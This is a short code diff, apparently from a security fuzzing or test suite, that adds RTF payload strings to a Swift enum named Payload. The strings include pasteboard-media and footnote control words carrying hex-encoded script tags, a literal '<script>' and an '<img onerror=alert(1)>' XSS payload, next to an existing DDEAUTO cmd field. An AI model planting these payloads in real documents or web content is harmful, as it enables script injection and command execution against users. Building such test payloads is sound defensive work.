@@ -43,6 +43,12 @@ enum Payload {
             "{\\field{\\*\\fldinst{INCLUDEPICTURE \"\(text)\"}}{\\fldrslt x}}",
             "{\\field{\\*\\fldinst{DDEAUTO cmd \"\(text)\"}}{\\fldrslt x}}",
             "{\\*\\pasteboardmedia{\\sn pibName}{\\sv \(text)}{\\sn kind}{\\sv video}}{x}",
+            "{\\*\\pasteboardmedia{\\sn pibName}{\\sv \(text)}{\\sn type}{\\sv text/html}3c7363726970743e}{x}",
+            "{\\*\\pasteboardmedia{\\sn type}{\\sv \(text)}474946383961}{x}",
+            "{{\\*\\pasteboardlanguage \(text)}x{\\*\\pasteboardlook{\\*\\pasteboardlanguage <script>}}\\u-4?}",
+            "x{\\*\\pasteboardnoteref \(text)}{1}\\par\\pard{\\*\\pasteboardfootnote 0 \(text)}x\\par",
+            "x\\par\\pard{\\*\\pasteboardfootnote 0 <img src=x onerror=alert(1)>\"'}x\\par",
+            "{\\field{\\*\\fldinst{HYPERLINK \"https://e.org\"{\\*\\pasteboardtitle \(text)}}}{\\fldrslt x}}",
             "{{\\NeXTGraphic \(text)}\\'ac}", "{\\object\\objemb{\\*\\objdata \(text)}{\\result x}}",
         ]
     }
